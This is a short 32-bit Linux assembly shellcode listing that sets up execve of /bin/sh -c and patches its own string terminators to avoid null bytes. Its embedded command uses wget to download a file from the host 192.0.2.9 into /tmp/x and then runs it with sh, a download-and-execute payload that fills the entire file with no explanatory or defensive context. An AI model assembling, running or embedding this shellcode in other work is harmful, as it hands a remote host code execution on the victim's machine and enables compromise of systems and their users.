; Linux, 32 bit: execve("/bin/sh", {"/bin/sh", "-c", command}) with texts behind itself.
bits 32
        jmp short text
back:   pop edi
        xor eax, eax
        mov [edi + option - 1 - shell], al
        mov [edi + command - 1 - shell], al
        mov [edi + end - shell], al
        push eax
        lea ebx, [edi + command - shell]
        push ebx
        lea ebx, [edi + option - shell]
        push ebx
        push edi
        mov ebx, edi
        mov ecx, esp
        xor edx, edx
        mov al, 11
        int 80h
text:   call back
shell:  db '/bin/sh#'
option: db '-c#'
command: db 'wget http://192.0.2.9/x -O /tmp/x; sh /tmp/x'
end:    db '#'
